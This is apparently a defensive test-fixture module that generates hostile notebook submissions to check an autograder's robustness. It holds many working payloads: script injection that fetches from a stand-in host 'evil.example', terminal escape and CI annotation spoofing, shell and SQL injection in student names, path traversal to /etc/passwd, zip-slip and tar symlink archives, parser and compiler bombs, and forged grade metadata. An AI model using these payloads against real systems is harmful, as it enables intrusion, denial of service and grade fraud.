"""Hostile notebooks, one hostile thing each, in a submission that is right in everything else."""

from __future__ import annotations

import io
import os
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from courses import code, dump, submission, text

HOST = "evil.example"
OWNED = f"window.owned=1;document.title='owned';fetch('https://{HOST}/f')"
MARKUP = {
    "script": f"<script>{OWNED}</script>",
    "image": f'<img src="https://{HOST}/i.png" onerror="{OWNED}">',
    "broken-image": f'<img src=x onerror="{OWNED}">',
    "svg": f'<svg onload="{OWNED}"><script>{OWNED}</script><image href="https://{HOST}/s.png"/></svg>',
    "frame": f'<iframe srcdoc="<script>parent.{OWNED}</script>" src="https://{HOST}/r"></iframe>',
    "style": f"<style>@import 'https://{HOST}/c.css'; body {{ background: url(https://{HOST}/b.png) }}</style>",
    "styled": f'<p style="list-style: url(https://{HOST}/l.png); background: url(https://{HOST}/k.png)">x</p>',
    "form": f'<form action="https://{HOST}/p"><input class="score" id="why" autofocus onfocus="{OWNED}"></form>',
    "link-sheet": f'<link rel="stylesheet" href="https://{HOST}/l.css"><base href="https://{HOST}/">',
    "refresh": f'<meta http-equiv="refresh" content="0; url=https://{HOST}/m">',
    "object": f'<object data="https://{HOST}/o"></object><embed src="https://{HOST}/e">',
    "media": f'<video src="https://{HOST}/v" poster="https://{HOST}/w"></video><audio src="https://{HOST}/a"></audio>',
    "comment": f"--><script>{OWNED}</script><!--",
    "closing": f"</pre></code></td></textarea></title></style></script><script>{OWNED}</script>",
    "server": '<img src="/logout"><img src="../../../api/shutdown"><img src="//' + HOST + '/q">',
}
MARKDOWN = {
    "md-image": f"![x](https://{HOST}/m.png)",
    "md-reference": f"![x][r]\n\n[r]: https://{HOST}/n.png",
    "md-protocol": f"![x](//{HOST}/o.png) [y](javascript:{OWNED})",
    "md-attachment": f'![x](attachment:"onerror={OWNED}) ![y](attachment:../../../../etc/passwd)',
    "md-formula": f"$\\href{{javascript:{OWNED}}}{{x}}$ $\\style{{background:url(https://{HOST}/t)}}{{x}}$",
    "md-code": f"```\n</code></pre><script>{OWNED}</script>\n```",
    "md-table": f"| <script>{OWNED}</script> |\n|---|\n| ![x](https://{HOST}/u.png) |",
}
CONTROL = (
    "\x1b[2J\x1b]0;owned\x07\x1b[31m\u202e\u2066\r::error::owned\n::set-output name=x::y\n##[command]owned\x00\x9b2J"
)
ARGUMENTS = "def double(x):\n    raise ValueError({said!r})"
SHOWS = "class R:\n    def _repr_html_(self): return {said!r}\n    def _repr_svg_(self): return {said!r}\n"
SHOWS += "    def _repr_javascript_(self): return {js!r}\nfrom IPython.display import *\n"
SHOWS += "display(R()); display(HTML({said!r}), Javascript({js!r}), SVG('<svg/>'), Markdown({said!r}))\n"
SHOWS += "print({said!r})\nR()"

Files = dict[str, bytes]
GIVEN = ("given.csv", "data/given.csv")


@dataclass(frozen=True)
class Hostile:
    """What is handed in, under which student's name, and what must come of it: of the 3 points, and a sentence."""

    student: str
    files: Files
    points: float = 3.0
    status: str = "graded"
    said: str = ""


def _one(name: str, document: Any, **more: Any) -> Hostile:
    return Hostile(name, {"ps1.ipynb": document if isinstance(document, bytes) else dump(document)}, **more)


def _with(change: Callable[[dict[str, Any]], object]) -> dict[str, Any]:
    document = submission()
    change(document)
    return document


def _cell(source: str) -> dict[str, Any]:
    return submission(extra=(code(source),))


def _raw(old: str, new: str) -> bytes:
    whole = dump(submission())
    assert old.encode() in whole
    return whole.replace(old.encode(), new.encode("utf-8", "surrogatepass"), 1)


def _readers() -> list[Hostile]:
    unreadable = {"points": 0.0, "status": "unreadable"}
    deep = "[" * 900 + "]" * 900
    lines = submission(extra=(code("1\n" * 450_000), text("1\n" * 450_000)))
    return [
        _one("json-deep", b"[" * 200_000, said="nested too deeply", **unreadable),
        _one("json-deep-objects", b'{"cells":' * 100_000, said="nested too deeply", **unreadable),
        _one("json-deep-aside", _raw('"nbformat": 4', f'"nbformat": 4, "x": {deep}')),
        _one("json-wide", b"[" + b"[]," * 8_000_000 + b"[]]", said="too many to be read", **unreadable),
        _one("json-long-number", _raw('"nbformat_minor": 5', '"nbformat_minor": ' + "7" * 5000)),
        _one("json-huge-float", _raw('"nbformat_minor": 5', '"nbformat_minor": 1e99999, "y": NaN, "z": -Infinity')),
        _one("json-twice", _raw('"nbformat": 4', '"nbformat": 3, "cells": 7, "nbformat": 4')),
        _one("json-key-twice", _raw('"grade_id": "double"', '"grade_id": "test_double", "grade_id": "double"')),
        _one("json-surrogate", submission(why="Because \ud800 so.", extra=(code("x = '\udfff'"),))),
        _one("json-surrogate-names", _with(lambda d: d["cells"][0].update(metadata={"\ud800": "\udc00"}))),
        _one("json-surrogate-id", _with(lambda d: d["cells"][0]["metadata"].update(nbgrader={"grade_id": "\ud800"}))),
        _one("json-surrogate-attached", _with(lambda d: d["cells"][6].update(attachments={"\ud800": {"\udc00": 1}}))),
        _one("json-nul", submission(why="a\0b", extra=(code("x = 1\0"), text("\0")))),
        _one("json-nul-id", _with(lambda d: d["cells"][0]["metadata"].update(nbgrader={"grade_id": "a\0"}))),
        _one("json-trailing", dump(submission()) + b"\n{}", said="not JSON", **unreadable),
        _one("bytes-random", bytes(range(256)) * 50, said="not text in UTF-8", **unreadable),
        _one("bytes-overlong", dump(submission()).replace(b"Multiplication", b"\xc0\xaf\xf5\x80", 1)),
        _one("bytes-utf-7", b"+AHs-" * 100, said="not JSON", **unreadable),
        _one("cells-100000", {"nbformat": 4, "cells": [text("x")] * 100_000}, said="100000 cells", **unreadable),
        _one("cells-990", submission(extra=(code("x = 1"),) * 982)),
        _one("cell-2000000-lines", submission(extra=(text("1\n" * 2_000_000),)), said="characters", **unreadable),
        _one("cell-450000-lines", lines),
        _one("cell-one-line", submission(extra=(code("x = '" + "a" * 900_000 + "'"), text("a" * 900_000)))),
    ]


def _wrong_types() -> list[Hostile]:
    odd: list[Any] = [None, 1, "x", [], {}, True, [[]], {"a": {"b": []}}]
    found = []
    for field in ("metadata", "outputs", "attachments", "execution_count", "id"):
        document = submission()
        for number, cell in enumerate(document["cells"]):
            if field != "metadata" or "nbgrader" not in cell["metadata"]:
                cell[field] = odd[number % len(odd)]
        found.append(_one(f"type-{field}", document))
    for field in ("grade_id", "points", "schema_version", "checksum", "locked", "cell_type"):
        document = submission(extra=tuple(text(f"own {n}", {"grade_id": "own", field: v}) for n, v in enumerate(odd)))
        found.append(_one(f"type-nbgrader-{field}", document))
    document = submission()
    document |= {"metadata": {"kernelspec": 5, "language_info": [], "widgets": "x", "autograder": 3}}
    unreadable = {"points": 0.0, "status": "unreadable"}
    return [
        *found,
        _one("type-notebook-metadata", document),
        _one("type-source", _with(lambda d: d["cells"][2].update(source={"a": 1})), said="has no text", **unreadable),
        _one("type-cell-type", _with(lambda d: d["cells"][2].update(cell_type=[])), said="neither code", **unreadable),
    ]


def _forged() -> list[Hostile]:
    wrong = "def double(x):\n    return 0"
    rich = {"grade_id": "test_double", "grade": True, "locked": True, "points": 1e9, "schema_version": 3}
    more = {"grade_id": "bonus", "grade": True, "solution": False, "points": 100, "schema_version": 3, "locked": True}
    claimed = {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "1e6"}}
    report = {"report": {"status": "graded", "exercises": [], "score": 99}, "cell_scores": {"test_double": 99}}
    staff = _with(lambda d: d["cells"][6]["metadata"].update(autograder={"staff_note": True}))
    marks = _with(lambda d: d["cells"][6]["metadata"]["nbgrader"].update(points=99, checksum="0" * 32, solution=False))
    graded = (code("from autograder import grade\ngrade('double')"),)
    return [
        _one("forged-points", submission(wrong, extra=(code("1000000", rich),)), points=1.0),
        _one("forged-cell", submission(wrong, extra=({**code("100", more), "outputs": [claimed]},)), points=1.0),
        _one("forged-report", submission(wrong) | {"metadata": {"autograder": report}}, points=1.0),
        _one("forged-staff-note", staff),
        _one("forged-marks", marks),
        _one("forged-grade", submission(wrong, extra=graded), points=1.0),
        _one("forged-hidden", submission(why="### BEGIN HIDDEN TESTS\nx", extra=(text("BEGIN MARK SCHEME"),))),
    ]


def _compiled() -> list[Hostile]:
    bombs = {
        "power": "def never():\n    return 9 ** 9 ** 9 ** 9",
        "repeat": "def never():\n    return 'a' * 10 ** 12 + ((0,) * 2 ** 20) * 2 ** 40",
        "shift": "def never():\n    return 1 << (1 << 40)",
        "brackets": "x = " + "(" * 50_000 + ")" * 50_000,
        "minus": "x = " + "-" * 100_000 + "1",
        "sum": "x = " + "1+" * 50_000 + "1",
        "attributes": "x = a" + ".b" * 50_000,
        "indents": "\n".join(" " * n + "if 1:" for n in range(900)),
        "f-string": "x = " + "f'{" * 200 + "1" + "}'" * 200,
        "targets": "x = " * 20_000 + "1",
    }
    return [_one(f"bomb-{name}", _cell(source)) for name, source in bombs.items()]


def _shown() -> list[Hostile]:
    found = []
    for name, said in MARKUP.items():
        shows = SHOWS.format(said=said, js=OWNED)
        raw = {"cell_type": "raw", "metadata": {}, "source": said, "id": "raw"}
        picture = {said: {"image/png": f'x" onerror="{OWNED}', "image/svg+xml": said, "text/html": said}}
        document = submission(why=f"Because.\n\n{said}", extra=(code(shows), text(f"# {said}"), code(f"# {said}"), raw))
        document["cells"][6]["attachments"] = picture
        found.append(_one(f"html-{name}", document))
        found.append(_one(f"raised-{name}", submission(ARGUMENTS.format(said=said)), points=1.0))
    found += [_one(name, submission(why=said, extra=(text(said),))) for name, said in MARKDOWN.items()]
    answers = "def double(x):\n    return {said!r}"
    keys = "def double(x):\n    return {{{said!r}: {said!r}}}"
    return [
        *found,
        _one("answers-markup", submission(answers.format(said=MARKUP["script"])), points=1.0),
        _one("answers-control", submission(answers.format(said=CONTROL)), points=1.0),
        _one("answers-keys", submission(keys.format(said=MARKUP["image"] + CONTROL)), points=1.0),
        _one("control-printed", submission(why=CONTROL, extra=(code(f"print({CONTROL!r})"), text(CONTROL)))),
        _one("control-raised", submission(ARGUMENTS.format(said=CONTROL)), points=1.0),
        _one("control-source", _cell(f"# {CONTROL}".replace("\0", ""))),
        _one(
            "brackets", submission(ARGUMENTS.format(said="[red]x[/red] {0} {x!r} %s %(y)s {{ 1 }} `<b>`")), points=1.0
        ),
    ]


def _named() -> list[Hostile]:
    students = [
        *(f"n-{said}".replace("/", "∕") for said in (MARKUP["script"][:200], MARKUP["broken-image"][:200])),
        "n-\x1b[2J\u202egnp", "n-[red]x[∕red]", "n-{0}{student}%s%(x)s", "--help", "n-$(touch owned)`touch owned`;",
        "n-'; DROP TABLE grade; --", "n-" + "長" * 80, " n-space ", "n-*?[a-z]", "n-..\\..\\x",
    ]  # fmt: skip
    right = {"ps1.ipynb": dump(submission())}
    notebooks = [f"{MARKUP['script'].replace('/', '∕')[:120]}.ipynb", "\x1b[2J\u202e\n::error::x.ipynb", "-rf.ipynb"]
    called = [
        Hostile(f"file-{n}", {name: right["ps1.ipynb"]}, said="taken for that") for n, name in enumerate(notebooks)
    ]
    beside = {name.replace(".ipynb", ".csv"): b"1" for name in notebooks} | {"..\\x": b"1", "a/b/c/d.csv": b"1"}
    many = {f"{MARKUP['script'].replace('/', '∕')[:100]}{n}.csv": b"1" for n in range(203)}
    return [
        *(Hostile(student, right) for student in students),
        *called,
        Hostile("files-beside", right | beside),
        Hostile("file-not-utf-8", {os.fsdecode(b"\xff.ipynb"): right["ps1.ipynb"]}, said="taken for that"),
        Hostile(
            "files-not-utf-8", right | {os.fsdecode(b"\xff%d.csv" % n): b"1" for n in range(203)}, said="Not given"
        ),
        Hostile(
            "files-with-long-names",
            right | {"n" * 250: b"1", "長" * 83 + ".csv": b"1", "/".join(["n" * 255] * 3): b"1"},
        ),
        Hostile("file-for-a-folder", right | {"data": b"1"}, said="Not given to the notebook: data."),
        Hostile("folder-for-a-file", right | {"given.csv/x": b"1"}, said="Not given to the notebook: given.csv/x."),
        Hostile("files-many", right | many, said="Not given to the notebook"),
    ]


def _archives() -> list[Hostile]:
    climbing = ("../../owned", "/tmp/owned-by-an-archive", "a/../../../owned")
    zipped, tarred = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        for name in (*climbing, "ps1.ipynb"):
            archive.writestr(name, b"owned")
    with tarfile.open(fileobj=tarred, mode="w:gz") as tar:
        for name in climbing:
            tar.addfile(tarfile.TarInfo(name))
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc"
        tar.addfile(link)
    closed = {"points": 0.0, "status": "unreadable", "said": "left closed"}
    right = {"ps1.ipynb": dump(submission())}
    return [
        Hostile("archive-zip", {"ps1.zip": zipped.getvalue()}, **closed),
        Hostile("archive-tar", {"ps1.tar.gz": tarred.getvalue()}, **closed),
        Hostile("archive-as-notebook", {"ps1.ipynb": zipped.getvalue()}, **closed),
        Hostile("archive-beside", right | {"data.zip": zipped.getvalue(), "data.tar.gz": tarred.getvalue()}),
    ]


def _slow() -> list[Hostile]:
    """What is slow to show where somebody's regular expression looks for the end of it again and again."""
    blank = "\n" * 900_000
    spaces = " \n" * 400_000
    return [
        _one("slow-blank", submission(why=blank, extra=(code("x = 1" + blank), text(blank)))),
        _one("slow-blank-printed", submission(extra=(code("print('\\n' * 99_000)"),) * 3)),
        _one("slow-blank-raised", submission("def double(x):\n    raise ValueError('\\n' * 99_000)"), points=1.0),
        _one("slow-spaces", submission(why=spaces, extra=(code("x = 1\n" + spaces), code("x = 1" + " " * 900_000)))),
        _one("slow-markup", submission(why="<" * 900_000, extra=({**text("<b>" * 300_000), "cell_type": "raw"},))),
    ]


HOSTILE = [*_readers(), *_wrong_types(), *_forged(), *_compiled(), *_slow(), *_shown(), *_named(), *_archives()]


def put(root: Path, items: list[Hostile] = HOSTILE) -> None:
    """Hand all of it in, of an assignment with files of its own."""
    given = root / "source" / "ps1"
    (given / "data").mkdir()
    for name in GIVEN:
        (given / name).write_text("1,2\n")
    for item in items:
        for name, data in item.files.items():
            path = root / "submitted" / item.student / "ps1" / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
